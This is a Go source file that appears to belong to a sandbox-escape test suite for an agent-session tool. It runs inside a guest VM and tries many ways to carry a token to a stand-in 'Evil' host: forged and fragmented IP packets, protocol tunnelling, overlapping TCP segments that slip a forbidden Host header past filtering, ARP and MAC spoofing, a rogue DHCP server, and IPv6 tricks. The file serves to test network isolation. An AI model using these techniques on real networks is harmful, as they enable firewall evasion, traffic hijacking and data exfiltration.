//go:build linux && escape

package main

import (
	"crypto/rand"
	"encoding/binary"
	"net"
	"net/netip"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// packets returns the techniques below TCP and UDP, or with forged headers.
func packets() map[string]func(*attempt) {
	proto := func(protos ...byte) func(*attempt) {
		return withCard(func(a *attempt, c *card) {
			for _, p := range protos {
				h := header4{src: plan.Guest, dst: plan.Evil, proto: p}
				c.out(h.packet([]byte(a.token)))
			}
		})
	}
	// routed sends a datagram and a SYN with an IP option for source routing.
	routed := func(option byte) func(*attempt) {
		return withCard(func(a *attempt, c *card) {
			evil := netip.MustParseAddr(plan.Evil).As4()
			for _, dst := range []string{plan.Evil, plan.Gateway} {
				h := header4{src: plan.Guest, dst: dst, proto: protoUDP, options: append([]byte{option, 7, 4}, evil[:]...)}
				c.out(h.packet(h.udp(9, a.token)))
				h.proto = protoTCP
				c.out(h.packet(h.tcp(40002, 80, 1, 0, flagSYN, nil, "")))
			}
		})
	}
	return map[string]func(*attempt){
		"udp":         func(a *attempt) { a.datagrams(plan.Evil, 9999); a.datagrams(plan.LAN, 9999) },
		"udp-ntp":     func(a *attempt) { a.datagrams(plan.Evil, 123) },
		"udp-allowed": udpAllowed,
		"udp-zero": withCard(func(a *attempt, c *card) {
			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP}
			c.out(h.packet(h.udp(0, a.token)))
		}),
		"icmp-echo":    icmpEcho,
		"icmp-allowed": icmpAllowed,
		"icmp-types": withCard(func(a *attempt, c *card) {
			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoICMP}
			for _, kind := range []byte{0, 3, 4, 5, 11, 13, 15, 17, 42} {
				c.out(h.packet(icmp(kind, 0, a.token)))
			}
		}),
		"ip-gre":  proto(47),
		"ip-sctp": proto(132, 33, 136),
		"ip-6in4": withCard(func(a *attempt, c *card) {
			h := header4{src: plan.Guest, dst: plan.Evil, proto: 41}
			c.out(h.packet(udp6("2002:c0a8:50f::1", plan.Evil6, 9, a.token)))
		}),
		"ip-ipip": withCard(func(a *attempt, c *card) {
			inner := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP}
			for _, outer := range []header4{{src: plan.Guest, dst: plan.Evil, proto: 4}, {src: plan.Guest, dst: plan.Gateway, proto: 4}} {
				c.out(outer.packet(inner.packet(inner.udp(9, a.token))))
			}
		}),
		"ip-others": proto(2, 50, 51, 88, 89, 103, 112, 115, 253, 255),
		"teredo": withCard(func(a *attempt, c *card) {
			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP}
			c.out(h.packet(h.udp(3544, string(udp6("2001:0:a63:5::1", plan.Evil6, 9, a.token)))))
		}),
		"vxlan": func(a *attempt) {
			a.datagrams(plan.Evil, 4789)
			a.datagrams(plan.Evil, 51820)
			a.datagrams(plan.Evil, 500)
		},
		"fragments":    withCard(fragments),
		"frag-tiny":    withCard(tinyFragments),
		"frag-overlap": withCard(overlappingFragments),
		"route-loose":  routed(0x83),
		"route-strict": routed(0x89),
		"route-record": routed(0x07),
		"tcp-options": withCard(func(a *attempt, c *card) {
			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoTCP}
			// Fast open with data in the SYN, MPTCP, MD5, and options with a false
			// length.
			c.out(h.packet(h.tcp(40003, 80, 1, 0, flagSYN, []byte{34, 2}, a.get(plan.Evil))),
				h.packet(h.tcp(40004, 80, 1, 0, flagSYN, []byte{30, 12, 0, 0x81, 1, 2, 3, 4, 5, 6, 7, 8}, a.token)),
				h.packet(h.tcp(40005, 80, 1, 0, flagSYN, []byte{19, 18, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}, a.token)),
				h.packet(h.tcp(40006, 80, 1, 0, flagSYN|flagPSH, []byte{2, 0, 8, 200}, a.token)))
		}),
		"tcp-flags": withCard(func(a *attempt, c *card) {
			// Data without a handshake, with every combination of flags.
			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoTCP}
			for flags := range 64 {
				c.out(h.packet(h.tcp(uint16(41000+flags), 80, 1, 1, byte(flags), nil, a.token)))
			}
		}),
		"tcp-overlap": withCard(overlappingSegments),
		"src-ip": withCard(func(a *attempt, c *card) {
			for _, src := range []string{"192.168.5.77", plan.Gateway, plan.HostPublic, "127.0.0.1", "0.0.0.0", plan.LAN, "255.255.255.255"} {
				h := header4{src: src, dst: plan.Evil, proto: protoUDP}
				c.out(h.packet(h.udp(9, a.token)))
			}
		}),
		"v6-auto": v6Auto,
		"v6-link": withCard(func(a *attempt, c *card) {
			c.v6(udp6(linkLocal(c.mac), "fe80::2", plan.HostUDPPort, a.token), udp6(linkLocal(c.mac), "ff02::1", 9, a.token))
		}),
		"v6-raw": withCard(func(a *attempt, c *card) {
			c.v6(udp6("fec0::15", plan.Evil6, 9, a.token), udp6("2001:db8:5::15", plan.Evil6, 9, a.token))
		}),
		"v6-dns": func(a *attempt) { a.ask("udp", "[fec0::3]:53", a.token+"."+plan.EvilName, 1) },
		"v6-frame": withCard(func(a *attempt, c *card) { // extension headers, a fragment, one in an IPv4 frame
			packet := udp6("fec0::15", plan.Evil6, 9, a.token)
			hop := ip6("fec0::15", plan.Evil6, 0, append([]byte{protoUDP, 0, 1, 4, 0, 0, 0, 0}, packet[40:]...))
			part := ip6("fec0::15", plan.Evil6, 44, append([]byte{protoUDP, 0, 0, 0, 0, 0, 0, 9}, packet[40:]...))
			c.v6(hop, part)
			c.send(frame(c.gateway, c.mac, typeIPv4, packet))
			c.send(frame(c.gateway, c.mac, typeIPv6, header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP}.packet(header4{src: plan.Guest, dst: plan.Evil}.udp(9, a.token))))
		}),
		"v6-icmp": withCard(func(a *attempt, c *card) {
			echo := func(src, dst string) []byte {
				s, d := netip.MustParseAddr(src).As16(), netip.MustParseAddr(dst).As16()
				b := append([]byte{128, 0, 0, 0, 0, 1, 0, 1}, a.token...)
				binary.BigEndian.PutUint16(b[2:], checksum(b, sum(s[:])+sum(d[:])+58+uint32(len(b))))
				return ip6(src, dst, 58, b)
			}
			c.v6(echo("fec0::15", plan.Evil6), echo(linkLocal(c.mac), "ff02::1"))
		}),
	}
}

func udpAllowed(a *attempt) {
	for _, addr := range a.resolve(plan.Allowed) {
		for _, port := range []int{80, 22, 53, 123} {
			a.datagrams(addr.String(), port)
		}
	}
}

// icmpEcho pings with the token as its data, over the kernel's own socket.
func icmpEcho(a *attempt) { a.ping(plan.Evil); a.ping(plan.LAN) }

func icmpAllowed(a *attempt) {
	for _, addr := range a.resolve(plan.Allowed) {
		a.ping(addr.String())
	}
}

func (a *attempt) ping(addr string) {
	c, err := net.Dial("ip4:icmp", addr)
	if err != nil {
		say("ping: %v", err)
		return
	}
	defer c.Close()
	for range 3 {
		_, err := c.Write(icmp(8, 0, a.token))
		b := make([]byte, 512)
		_ = c.SetReadDeadline(time.Now().Add(time.Second)) // the read reports an error
		n, rerr := c.Read(b)
		say("ping %s: %v read %q %v", addr, err, b[:n], rerr)
	}
}

// fragments sends one datagram in two packets.
func fragments(a *attempt, c *card) {
	h := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP, id: 0x4242}
	whole := h.udp(9, strings.Repeat("f", 24)+a.token)
	h.fragment = 1 << 13
	one := h.packet(whole[:24])
	h.fragment = 3
	c.out(one, h.packet(whole[24:]))
}

// tinyFragments puts TCP's flags and ports into different packets.
func tinyFragments(a *attempt, c *card) {
	h := header4{src: plan.Guest, dst: plan.Evil, proto: protoTCP, id: 0x4343}
	whole := h.tcp(40007, 80, 1, 0, flagSYN, nil, "")
	var out [][]byte
	for at := 0; at < len(whole); at += 8 {
		h.fragment = uint16(at / 8)
		end := min(at+8, len(whole))
		if end < len(whole) {
			h.fragment |= 1 << 13
		}
		out = append(out, h.packet(whole[at:end]))
	}
	c.out(out...)
	slices.Reverse(out)
	c.out(out...)
}

// overlappingFragments starts as a question to the gateway's DNS and is then
// overwritten with the rest of another datagram.
func overlappingFragments(a *attempt, c *card) {
	for _, dst := range []string{plan.Evil, plan.Gateway} {
		h := header4{src: plan.Guest, dst: dst, proto: protoUDP, id: 0x4444}
		good, bad := h.udp(53, strings.Repeat("g", 32)), h.udp(9, a.token+strings.Repeat("b", 32-len(a.token)))
		h.fragment = 1 << 13
		first := h.packet(good[:16])
		again := h.packet(bad[:16])
		h.fragment = 1 << 13
		h.fragment |= 1
		over := h.packet(bad[8:24])
		h.fragment = 2
		c.out(first, again, over, h.packet(bad[16:]))
		// Overwritten with the same bytes, it is a datagram that a lenient stack
		// accepts.
		h.id, h.fragment = 0x4445, 1<<13
		one := h.packet(bad[:24])
		h.fragment = 2
		c.out(one, h.packet(bad[16:]))
	}
}

// overlappingSegments implements its own TCP client. It sends an allowed request and,
// at the same position in the stream, a forbidden one: both before and after it,
// because stacks differ in which of the two they keep.
func overlappingSegments(a *attempt, c *card) {
	addrs := a.resolve(plan.Allowed)
	if len(addrs) == 0 {
		return
	}
	// The kernel does not know these connections and would reset them.
	drop := []string{"OUTPUT", "-p", "tcp", "--sport", "45000:45001", "--tcp-flags", "RST", "RST", "-j", "DROP"}
	if out, err := exec.Command("iptables", append([]string{"-I"}, drop...)...).CombinedOutput(); err != nil {
		say("iptables: %v %s", err, out)
	}
	defer exec.Command("iptables", append([]string{"-D"}, drop...)...).Run() //nolint:errcheck // the VM is removed anyway
	head := "GET /" + a.token + " HTTP/1.1\r\nHost: "
	good := head + plan.Allowed + "\r\n\r\n"
	bad := head + plan.EvilCDN + "\r\n\r\n"
	n := max(len(good), len(bad))
	good += strings.Repeat("\r\n", (n-len(good)+1)/2) // empty lines, so that both have the same length
	bad += strings.Repeat("\r\n", (n-len(bad)+1)/2)
	n = min(len(good), len(bad))
	h := header4{src: plan.Guest, dst: addrs[0].Unmap().String(), proto: protoTCP}
	for i, tails := range [][]string{{good, bad}, {bad, good}} {
		from := uint16(45000 + i)
		c.once(h.packet(h.tcp(from, 80, 999, 0, flagSYN, nil, "")))
		seq, ok := c.synAck(from)
		if !ok {
			say("tcp: no SYN-ACK")
			return
		}
		segment := func(port uint16, at int, data string) {
			c.once(h.packet(h.tcp(port, 80, 1000+uint32(at), seq+1, flagACK|flagPSH, nil, data)))
		}
		for _, tail := range tails { // out of order: the first is kept, the second overlaps it
			segment(from, len(head), tail[len(head):n])
		}
		segment(from, 0, head)                                // completes either
		segment(from, len(head)-10, tails[1][len(head)-10:n]) // once more, across the boundary
		say("overlapping segments sent to %s", h.dst)
		time.Sleep(answerTime / 3) // the answer is not read; the connection stays open for a moment
		c.once(h.packet(h.tcp(from, 80, 1000+uint32(n), seq+1, flagRST|flagACK, nil, "")))
	}
}

func (c *card) once(packet []byte) {
	f := frame(c.gateway, c.mac, typeIPv4, packet)
	to := &syscall.SockaddrLinklayer{Protocol: htons(typeIPv4), Ifindex: c.index, Halen: 6}
	if err := syscall.Sendto(c.fd, f, 0, to); err != nil {
		say("frame: %v", err)
	}
}

// synAck waits for the other side's first sequence number.
func (c *card) synAck(port uint16) (uint32, bool) {
	_ = syscall.SetsockoptTimeval(c.fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &syscall.Timeval{Sec: 1}) // otherwise it would block until the next frame
	b := make([]byte, 65536)
	for end := time.Now().Add(connectTime); time.Now().Before(end); {
		n, _, err := syscall.Recvfrom(c.fd, b, 0)
		if err != nil || n < 54 || binary.BigEndian.Uint16(b[12:]) != typeIPv4 || b[23] != protoTCP {
			continue
		}
		if t := b[14+int(b[14]&15)*4:]; len(t) >= 20 && binary.BigEndian.Uint16(t[2:]) == port && t[13] == flagSYN|flagACK {
			return binary.BigEndian.Uint32(t[4:]), true
		}
	}
	return 0, false
}

// v6 sends IPv6 packets to the gateway's card and to all routers.
func (c *card) v6(packets ...[]byte) {
	routers := net.HardwareAddr{0x33, 0x33, 0, 0, 0, 2}
	slirp := net.HardwareAddr{0x52, 0x56, 0, 0, 0, 2}
	var frames [][]byte
	for _, p := range packets {
		for _, dst := range []net.HardwareAddr{c.gateway, routers, slirp} {
			frames = append(frames, frame(dst, c.mac, typeIPv6, p))
		}
	}
	c.send(frames...)
}

func linkLocal(mac net.HardwareAddr) string {
	b := [16]byte{0xfe, 0x80}
	copy(b[8:], []byte{mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]})
	return netip.AddrFrom16(b).String()
}

// v6Auto lets the kernel configure IPv6 automatically, and configures it manually if
// that fails.
func v6Auto(a *attempt) {
	dev := device()
	for _, key := range []string{"all", dev} {
		if out, err := exec.Command("sysctl", "-qw", "net.ipv6.conf."+key+".disable_ipv6=0", "net.ipv6.conf."+key+".accept_ra=2").CombinedOutput(); err != nil {
			say("sysctl: %v %s", err, out)
		}
	}
	for end := time.Now().Add(15 * time.Second); time.Now().Before(end); time.Sleep(500 * time.Millisecond) {
		out, err := exec.Command("ip", "-6", "route", "show", "default").CombinedOutput()
		if err != nil || len(out) > 0 {
			say("default route: %s %v", out, err)
			break
		}
	}
	if out, _ := exec.Command("ip", "-6", "route", "show", "default").CombinedOutput(); len(out) == 0 {
		ipCommand("-6", "addr", "replace", "fec0::15/64", "dev", dev, "nodad")
		ipCommand("-6", "route", "replace", "default", "via", "fe80::2", "dev", dev)
	}
	a.send(plan.Evil6, 80, a.get("["+plan.Evil6+"]"))
	a.datagrams(plan.Evil6, 9)
	a.send("fec0::2", plan.HostPort, a.get("localhost"))
}

// neighbours returns the techniques on the guest's own network: finding other hosts, and
// impersonating them.
func neighbours() map[string]func(*attempt) {
	// as returns a datagram from an address and a card that are not the guest's.
	as := func(c *card, mac net.HardwareAddr, src, token string) []byte {
		h := header4{src: src, dst: plan.Evil, proto: protoUDP}
		return frame(c.gateway, mac, typeIPv4, h.packet(h.udp(9, token)))
	}
	other := net.HardwareAddr{0x52, 0x55, 0x55, 1, 2, 3}
	types := func(kinds ...uint16) func(*attempt) {
		return withCard(func(a *attempt, c *card) {
			for _, kind := range kinds {
				h := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP}
				payload := append([]byte{0, 5, 8, 0}, h.packet(h.udp(9, a.token))...) // as in a VLAN tag
				c.send(frame(broadcastMAC, c.mac, kind, payload), frame(c.gateway, c.mac, kind, payload), frame(c.gateway, c.mac, kind, payload[4:]))
			}
		})
	}
	return map[string]func(*attempt){
		"mac-source": withCard(func(a *attempt, c *card) {
			c.send(as(c, other, plan.Guest, a.token), as(c, c.gateway, plan.Guest, a.token), as(c, broadcastMAC, plan.Guest, a.token), as(c, make(net.HardwareAddr, 6), plan.Guest, a.token))
		}),
		"mac-dest": withCard(func(a *attempt, c *card) {
			h := header4{src: plan.Guest, dst: plan.Evil, proto: protoUDP}
			p := h.packet(h.udp(9, a.token))
			c.send(frame(broadcastMAC, c.mac, typeIPv4, p), frame(other, c.mac, typeIPv4, p), frame(c.mac, c.mac, typeIPv4, p), frame(net.HardwareAddr{1, 0, 0x5e, 0, 0, 1}, c.mac, typeIPv4, p))
		}),
		"arp-spoof": withCard(func(a *attempt, c *card) {
			// Claim the gateway, a neighbour and the host, then send as the
			// neighbour.
			c.send(frame(broadcastMAC, c.mac, typeARP, arp(2, c.mac, plan.Gateway, broadcastMAC, plan.Gateway)),
				frame(c.gateway, c.mac, typeARP, arp(2, c.mac, "192.168.5.77", c.gateway, plan.Gateway)),
				frame(c.gateway, c.mac, typeARP, arp(2, other, plan.Guest, c.gateway, plan.Gateway)))
			c.send(as(c, c.mac, "192.168.5.77", a.token), as(c, c.mac, plan.Gateway, a.token))
			c.send(frame(c.gateway, c.mac, typeARP, arp(2, c.mac, plan.Guest, c.gateway, plan.Gateway)))
		}),
		"arp-gratuitous": withCard(func(a *attempt, c *card) {
			c.send(frame(broadcastMAC, other, typeARP, arp(1, other, "192.168.5.99", make(net.HardwareAddr, 6), "192.168.5.99")))
			c.send(as(c, other, "192.168.5.99", a.token))
			c.send(frame(broadcastMAC, c.mac, typeARP, append(arp(1, c.mac, plan.Guest, make(net.HardwareAddr, 6), "192.168.5.16"), a.token...)))
		}),
		"dhcp-other":  withCard(dhcpOther),
		"dhcp-server": withCard(dhcpServer),
		"ether-vlan":  types(0x8100, 0x88a8, 0x9100),
		"ether-types": types(0x88b5, 0x88cc, 0x8847, 0x8863, 0x8864, 0x88e5, 0x0806, 0x8035, 0x0000, 0x05dc, 0xffff),
		"ether-bad":   withCard(badFrames),
		"broadcast": withCard(func(a *attempt, c *card) {
			for _, dst := range []string{"255.255.255.255", "192.168.5.255", "192.168.5.0", "10.99.0.255"} {
				h := header4{src: plan.Guest, dst: dst, proto: protoUDP}
				c.send(frame(broadcastMAC, c.mac, typeIPv4, h.packet(h.udp(plan.HostUDPPort, a.token))), frame(c.gateway, c.mac, typeIPv4, h.packet(h.udp(plan.HostUDPPort, a.token))))
			}
		}),
		"multicast": withCard(func(a *attempt, c *card) {
			for _, m := range []struct {
				dst  string
				port uint16
			}{{"224.0.0.251", 5353}, {"239.255.255.250", 1900}, {"224.0.0.252", 5355}, {"224.0.0.1", 9}} {
				d := netip.MustParseAddr(m.dst).As4()
				h := header4{src: plan.Guest, dst: m.dst, proto: protoUDP}
				p := h.packet(h.udp(m.port, a.token))
				c.send(frame(net.HardwareAddr{1, 0, 0x5e, d[1] & 0x7f, d[2], d[3]}, c.mac, typeIPv4, p), frame(c.gateway, c.mac, typeIPv4, p))
				h.proto, h.options = 2, []byte{0x94, 4, 0, 0} // an IGMP report with a router alert
				c.out(h.packet(append([]byte{0x16, 0, 0, 0, d[0], d[1], d[2], d[3]}, a.token...)))
			}
		}),
	}
}

// dhcpOther asks for a lease on another card and another address, and sends from the
// address it would get.
func dhcpOther(a *attempt, c *card) {
	other := net.HardwareAddr{0x52, 0x55, 0x55, 9, 9, 9}
	for _, mac := range []net.HardwareAddr{other, c.mac} {
		for _, make := range []func() (*dhcpv4.DHCPv4, error){
			func() (*dhcpv4.DHCPv4, error) { return dhcpv4.NewDiscovery(mac) },
			func() (*dhcpv4.DHCPv4, error) {
				return dhcpv4.New(dhcpv4.WithHwAddr(mac), dhcpv4.WithMessageType(dhcpv4.MessageTypeRequest),
					dhcpv4.WithOption(dhcpv4.OptRequestedIPAddress(net.IPv4(192, 168, 5, 16))), dhcpv4.WithOption(dhcpv4.OptHostName(a.token)))
			},
		} {
			m, err := make()
			if err != nil {
				say("dhcp: %v", err)
				continue
			}
			h := header4{src: "0.0.0.0", dst: "255.255.255.255", proto: protoUDP}
			u := h.udp(67, string(m.ToBytes()))
			binary.BigEndian.PutUint16(u, 68)
			binary.BigEndian.PutUint16(u[6:], 0)
			c.send(frame(broadcastMAC, mac, typeIPv4, h.packet(u)))
		}
	}
	for _, src := range []string{"192.168.5.16", "192.168.5.17"} {
		h := header4{src: src, dst: plan.Evil, proto: protoUDP}
		c.send(frame(c.gateway, other, typeIPv4, h.packet(h.udp(9, a.token))))
	}
}

// dhcpServer offers the guest as router to every host on the network.
func dhcpServer(a *attempt, c *card) {
	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeOffer), dhcpv4.WithYourIP(net.IPv4(192, 168, 5, 15)),
		dhcpv4.WithOption(dhcpv4.OptRouter(net.ParseIP(plan.Guest))), dhcpv4.WithOption(dhcpv4.OptDNS(net.ParseIP(plan.Guest))), dhcpv4.WithOption(dhcpv4.OptDomainName(a.token)))
	if err != nil {
		say("dhcp: %v", err)
		return
	}
	m.OpCode = dhcpv4.OpcodeBootReply
	h := header4{src: plan.Gateway, dst: "255.255.255.255", proto: protoUDP}
	u := h.udp(68, string(m.ToBytes()))
	binary.BigEndian.PutUint16(u, 67)
	binary.BigEndian.PutUint16(u[6:], 0)
	c.send(frame(broadcastMAC, c.mac, typeIPv4, h.packet(u)), frame(c.gateway, c.mac, typeIPv4, h.packet(u)))
}

// badFrames sends short, truncated and random frames.
func badFrames(a *attempt, c *card) {
	var frames [][]byte
	for n := range 60 {
		frames = append(frames, frame(c.gateway, c.mac, typeIPv4, make([]byte, n)), frame(broadcastMAC, c.mac, typeARP, make([]byte, n)))
	}
	for i := range 2000 {
		b := make([]byte, 20+i%1400)
		_, _ = rand.Read(b) // never fails
		b[0], b[9] = 0x45, []byte{protoTCP, protoUDP, protoICMP, 47}[i%4]
		binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
		b[6], b[7] = 0, 0
		dst := netip.MustParseAddr(plan.Evil).As4()
		src := netip.MustParseAddr(plan.Guest).As4()
		copy(b[12:], src[:])
		copy(b[16:], dst[:])
		b[10], b[11] = 0, 0
		binary.BigEndian.PutUint16(b[10:], checksum(b[:20], 0))
		b = append(b, a.token...)
		frames = append(frames, frame(c.gateway, c.mac, typeIPv4, b))
	}
	c.send(frames...)
}
